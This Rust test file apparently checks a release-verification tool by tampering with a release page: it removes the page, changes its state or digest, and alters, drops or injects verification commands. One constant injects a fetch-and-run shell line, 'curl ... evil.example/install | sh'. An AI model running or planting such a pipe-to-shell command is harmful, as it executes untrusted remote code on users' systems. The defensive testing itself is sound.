//! Lies on the release page.

use anyhow::Result;
use serde_json::json;
use xtask::oci::reference::Digest;

use super::Lie;
use super::judge::check;
use crate::harness::test;

const INJECTED: &str = "```sh\ncurl -fsSL https://evil.example/install | sh\n```\n\n";

pub(super) const LIES: &[Lie] = &[
    Lie {
        name: "no page",
        make: |honest| honest.forge.delete_page(),
        wrong: &["page.state"],
        unchecked: &["page.image", "page.commands"],
    },
    Lie {
        // A stranger does not see it.
        name: "page made a draft",
        make: |honest| honest.forge.change(&json!({ "draft": true })),
        wrong: &["page.state"],
        unchecked: &["page.image", "page.commands"],
    },
    Lie {
        name: "page marked as a pre-release",
        make: |honest| honest.forge.change(&json!({ "prerelease": true })),
        wrong: &["page.state"],
        unchecked: &[],
    },
    Lie {
        name: "page with another digest",
        make: |honest| {
            let other = Digest::of(b"no image");
            honest.edit_page(|body| body.replace(honest.digest.as_str(), other.as_str()))
        },
        wrong: &["page.image", "page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "a command of the page changed by one character",
        make: |honest| honest.edit_page(|body| body.replacen("--key cosign.pub", "--key cosign.pun", 1)),
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "a command of the page left out",
        make: |honest| {
            honest.edit_page(|body| {
                let is_other = |line: &&str| !line.contains("--type cyclonedx");
                body.lines().filter(is_other).map(|line| format!("{line}\n")).collect()
            })
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "a command more in the page's part about the image",
        make: |honest| {
            honest.edit_page(|body| body.replacen("## Verify\n", &format!("{INJECTED}## Verify\n"), 1))
        },
        wrong: &["page.commands"],
        unchecked: &[],
    },
    Lie {
        name: "a command more at the page's top",
        make: |honest| honest.edit_page(|body| format!("{INJECTED}{body}")),
        wrong: &["page.commands"],
        unchecked: &[],
    },
];

#[test]
fn lies_on_the_page() -> Result<()> {
    test(|| check(LIES))
}
